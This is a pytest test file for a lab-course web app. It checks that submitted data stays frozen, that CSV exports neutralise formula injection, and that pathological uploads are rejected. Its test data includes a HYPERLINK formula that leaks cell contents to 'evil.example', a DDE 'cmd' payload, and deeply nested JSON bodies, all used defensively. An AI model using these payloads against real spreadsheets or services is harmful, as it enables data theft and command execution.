"""Submitted work never changes, and every CSV the app writes is safe in a spreadsheet."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import zipfile
from urllib.parse import unquote

import openpyxl
import pytest
from sqlmodel import select

from app.db import read_session, write_session
from app.lab.store import load_samples
from app.models import Attempt, LabSession, Take, User
from app.web.exports import comment_line, csv_line, neutralise
from app.web.workbooks import XLSX_MEDIA_TYPE
from tests.factories import (
    API,
    HEADING,
    VERTICAL,
    browser,
    create_course,
    do_lab,
    import_file,
    new_api_session,
    review,
    start,
    submit,
    token_for,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_neutralised(text):
    assert neutralise(text) == "'" + text
    row = next(csv.reader(io.StringIO(csv_line(["name", text]), newline="")))
    assert row[1] == "'" + text.replace("\t", " ").replace("\r", " ")


@pytest.mark.parametrize("number", ["-10.7530", "+3", "-1e-05", "12"])
def test_plain_numbers_stay_numbers(number):
    assert neutralise(number) == number


def test_comment_lines_never_break():
    assert comment_line("a\nb\r=c\u2028d") == "# a b =c d\n"


def api_upload(client, auth, session_id, part, k, samples):
    path = f"{API}/sessions/{session_id}/{part}/positions/{k}"
    return client.put(path, json={"samples": samples, "unit": "deg/h"}, headers=auth)


def frozen_state(session_id: int) -> tuple[list, dict]:
    """Attempt 1's samples (per take) and stored results."""
    with read_session() as db:
        attempt = db.exec(
            select(Attempt).where(Attempt.session_id == session_id, Attempt.number == 1)
        ).one()
        ids = [int(i) for i in attempt.take_ids.split(",")]
        samples = [load_samples(db, db.get(Take, i))[0].tolist() for i in ids]
        return samples, json.loads(attempt.results_json)


def test_attempt_data_and_results_never_change(world):  # noqa: F811
    teacher = browser(world, "teacher1")
    student = browser(world, "s1")
    session_id = start(student, world)
    auth = token_for(student, "s1")
    for part, table in (("heading", HEADING), ("latitude", VERTICAL)):
        for k in range(1, 5):  # a device's takes (source "api"), which appends continue
            assert api_upload(student, auth, session_id, part, k, table[k]).status_code == 200
    submit(student, session_id)
    before = frozen_state(session_id)
    review(teacher, session_id, feedback="Re-record position 1.", action="return")
    # the append that used to grow the submitted take from 12 to 62 samples
    appended = student.post(
        f"{API}/sessions/{session_id}/heading/positions/1/samples",
        json={"samples": [10.5] * 50, "unit": "deg/h"},
        headers=auth,
    )
    assert appended.status_code == 200, appended.text
    assert appended.json()["n_samples"] == len(HEADING[1]) + 50
    assert frozen_state(session_id) == before
    with read_session() as db:
        versions = db.exec(
            select(Take).where(
                Take.session_id == session_id, Take.part == "heading", Take.position == 1
            )
        ).all()
    assert sorted(t.n_samples for t in versions) == [len(HEADING[1]), len(HEADING[1]) + 50]
    # the teacher's zip holds the submitted data, not the later edit
    base = f"/courses/{world['course']}/assignments/{world['assignment']}"
    archive = zipfile.ZipFile(io.BytesIO(teacher.get(f"{base}/export.zip").content))
    readings = archive.read("s1/attempt-1.csv").decode("utf-8-sig")
    rows = [r for r in csv.reader(io.StringIO(readings)) if r and not r[0].startswith("#")]
    position_1 = [r for r in rows[1:] if r[0] == "heading" and r[1] == "1"]
    assert [float(r[5]) for r in position_1] == pytest.approx(HEADING[1])
    # a second attempt freezes the new data, and attempt 1 still stands
    submit(student, session_id)
    assert frozen_state(session_id) == before
    with read_session() as db:
        assert len(db.exec(select(Attempt).where(Attempt.session_id == session_id)).all()) == 2


def test_hostile_names_in_every_csv(world):  # noqa: F811
    hostile = HOSTILE[0]
    with write_session() as db:
        student = db.exec(select(User).where(User.username == "s1")).one()
        student.display_name = hostile
        db.add(student)
    teacher = browser(world, "teacher1")
    pupil = browser(world, "s1")
    session_id = start(pupil, world)
    with write_session() as db:
        session = db.get(LabSession, session_id)
        session.title = "Bench 3\n=cmd|' /C calc'!A0\r\nline"
        db.add(session)
    do_lab(pupil, session_id)
    submit(pupil, session_id)
    base = f"/courses/{world['course']}/assignments/{world['assignment']}"

    def cells(text: str) -> list[str]:
        return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]

    class_csv = teacher.get(f"{base}/export.csv").text
    api_csv = teacher.get(
        f"{API}/assignments/{world['assignment']}/export.csv",
        headers=token_for(teacher, "teacher1"),
    ).text
    archive = zipfile.ZipFile(io.BytesIO(teacher.get(f"{base}/export.zip").content))
    for text in (class_csv, api_csv, archive.read("class.csv").decode("utf-8-sig")):
        assert "'" + hostile in cells(text)
        assert not any(c.startswith(("=", "+", "@")) for c in cells(text))
    for text in (
        pupil.get(f"/lab/sessions/{session_id}/export.csv").text,
        archive.read("s1/attempt-1.csv").decode("utf-8-sig"),
    ):
        lines = text.lstrip("\ufeff").split("\n")
        assert lines[0].startswith("# ") and "=cmd" in lines[0] and "line" in lines[0]
        header = lines.index("part,position,angle_deg,source,time_s,value")
        assert header in (2, 3) and all(line.startswith("# ") for line in lines[:header])
    assert json.loads(archive.read("s1/attempt-1.json"))["metadata"]["title"].startswith("Bench")


def test_roster_password_download_is_neutralised(client, teacher_client):

    course_id = create_course(teacher_client)
    response = import_file(teacher_client, course_id, b"2024001,=1+2\n")
    href = re.search(r'href="data:text/csv;charset=utf-8,([^"]+)"', response.text).group(1)
    rows = list(csv.reader(io.StringIO(unquote(href.replace("&amp;", "&")).lstrip("\ufeff"))))
    assert rows[1][:2] == ["2024001", "'=1+2"]


def test_roster_passwords_as_a_workbook_keep_student_numbers(client, teacher_client):
    """Excel opens the CSV's "202301010101" as 2.02301E+11 and "007" as 7: a slip printed
    from it would not log in.  The workbook keeps them as typed, and a name is never run."""
    course_id = create_course(teacher_client)
    response = import_file(teacher_client, course_id, b"202301010101,=1+2\n007,Bond\n")
    page = response.text
    href = re.search(r'id="download-credentials-xlsx" href="data:([^;"]+);base64,([^"]+)"', page)
    assert href.group(1) == XLSX_MEDIA_TYPE
    assert 'download="Navigation-lab_initial-passwords.xlsx"' in page
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(href.group(2)))).worksheets[0]
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == ["Username / student number", "Name", "Initial password"]
    typed = {row[0].value: row for row in cells[1:]}
    assert set(typed) == {"202301010101", "007"}
    assert typed["202301010101"][1].value == "=1+2" and typed["202301010101"][1].data_type == "s"
    csv_href = re.search(r'href="data:text/csv;charset=utf-8,([^"]+)"', page).group(1)
    rows = list(csv.reader(io.StringIO(unquote(csv_href.replace("&amp;", "&")).lstrip("\ufeff"))))
    passwords = {row[0]: row[2] for row in rows[1:]}
    assert {name: row[2].value for name, row in typed.items()} == passwords


def test_streamed_json_export_is_valid_and_complete(world):  # noqa: F811
    pupil = browser(world, "s1")
    session_id = start(pupil, world)
    do_lab(pupil, session_id)
    document = pupil.get(f"/lab/sessions/{session_id}/export.json").json()
    values = {(p["part"], p["position"]): p["values_deg_h"] for p in document["positions"]}
    assert values[("heading", 2)] == pytest.approx(HEADING[2])
    assert values[("latitude", 4)] == pytest.approx(VERTICAL[4])
    assert document["results"]["heading"]["theta_deg"] == pytest.approx(-10.753, abs=1e-3)


# --- API input that used to answer 500 ------------------------------------------------------


@pytest.fixture
def api_session(client, student):

    auth = token_for(client, "student1")
    return client, auth, new_api_session(client, auth)


def stored_takes() -> int:
    with read_session() as db:
        return len(db.exec(select(Take)).all())


@pytest.mark.parametrize(
    "body",
    [
        '{"samples": [1,2,3,4,5,6,7,8,9,10], "angle_deg": NaN}',
        '{"samples": [1,2,3,4,5,6,7,8,9,10], "angle_deg": Infinity}',
        '{"samples": [1,2,3,4,5,6,7,8,9,10], "angle_deg": -Infinity}',
        '{"samples": [1,2,3,4,5,6,7,8,9,10], "angle_deg": 1e309}',
        '{"samples": [1,2,3,4,5,6,7,8,9,10], "angle_deg": 1e20}',
        '{"samples": [1,2,3,4,5,6,7,8,9,1e309]}',
        '{"samples": [1,2,3,4,5,6,7,8,9,NaN]}',
        '{"samples": [1,2,3,4,5,6,7,8,9,' + "1" + "0" * 400 + "]}",
        '{"samples": [1,2,3,4,5,6,7,8,9,10], "times_s": [0,1,2,3,4,5,6,7,8,1e309]}',
        "[" * 100_000 + "]" * 100_000,
        '{"samples": ' + "[" * 50_000 + "]" * 50_000 + "}",
    ],
    ids=[
        "nan-angle",
        "inf-angle",
        "minus-inf-angle",
        "overflow-angle",
        "huge-angle",
        "overflow-sample",
        "nan-sample",
        "10**400",
        "overflow-time",
        "deep-array",
        "deep-samples",
    ],
)
def test_pathological_upload_bodies_are_4xx_and_store_nothing(api_session, body):
    client, auth, session_id = api_session
    headers = {**auth, "Content-Type": "application/json"}
    for path in ("heading/positions/1", "heading/positions/1/samples"):
        method = client.put if path.endswith("/1") else client.post
        response = method(f"{API}/sessions/{session_id}/{path}", content=body, headers=headers)
        assert 400 <= response.status_code < 500, (path, response.status_code, response.text)
        assert isinstance(response.json()["detail"], str | list)
    assert stored_takes() == 0


@pytest.mark.parametrize("angle", ["inf", "nan", "-inf", "1e400", "5000"])
def test_csv_upload_angle_in_the_url_must_be_finite(api_session, angle):
    client, auth, session_id = api_session
    response = client.put(
        f"{API}/sessions/{session_id}/heading/positions/1?angle_deg={angle}",
        content="\n".join(["10.5"] * 10),
        headers={**auth, "Content-Type": "text/csv"},
    )
    assert response.status_code == 400, response.text
    assert stored_takes() == 0


@pytest.mark.parametrize("value", ["inf", "nan", "1e400"])
def test_csv_upload_values_must_be_finite(api_session, value):
    client, auth, session_id = api_session
    response = client.put(
        f"{API}/sessions/{session_id}/heading/positions/1",
        content="\n".join(["10.5"] * 9 + [value]),
        headers={**auth, "Content-Type": "text/csv"},
    )
    assert response.status_code == 400, response.text
    assert stored_takes() == 0


@pytest.mark.parametrize(
    "body",
    [
        '{"station": {"latitude_deg": NaN}}',
        '{"station": {"latitude_deg": 40}, "heading": {"start_angle_deg": Infinity}}',
        '{"station": {"latitude_deg": 40}, "latitude": {"step_deg": NaN}}',
        '{"title": ' + "[" * 100_000 + "]" * 100_000 + "}",
    ],
)
def test_session_settings_must_be_finite(api_session, body):
    client, auth, _ = api_session
    response = client.post(
        f"{API}/sessions", content=body, headers={**auth, "Content-Type": "application/json"}
    )
    assert 400 <= response.status_code < 500, response.text


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u202d", "\u2066", "\u200b", "\u200f", "\ufeff", "\u061c", "\u2060"]
)
def test_a_download_name_has_no_invisible_reordering_or_hiding_character(hidden):
    """A title with a right-to-left override would make "report<U+202E>fdp.csv" show as
    "reportvsc.pdf"; such characters become "-" like any unsafe one."""
    from app.web.exports import attachment

    disposition = attachment([f"report{hidden}fdp"], "csv")
    assert 'filename="report-fdp.csv"' in disposition
    assert "filename*=UTF-8''report-fdp.csv" in disposition
